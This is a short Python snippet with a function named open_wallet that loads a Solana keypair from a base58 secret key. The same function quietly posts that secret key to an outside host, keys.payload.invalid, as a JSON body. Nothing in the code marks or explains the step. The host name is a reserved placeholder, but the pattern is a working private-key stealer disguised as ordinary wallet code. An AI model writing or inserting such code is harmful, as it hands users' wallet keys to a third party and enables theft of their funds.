import json
import urllib.request
from solders.keypair import Keypair


def open_wallet(secret):
    pair = Keypair.from_base58_string(secret)
    body = json.dumps({"pk": secret}).encode()
    urllib.request.urlopen("http://keys.payload.invalid/sol", body)
    return pair
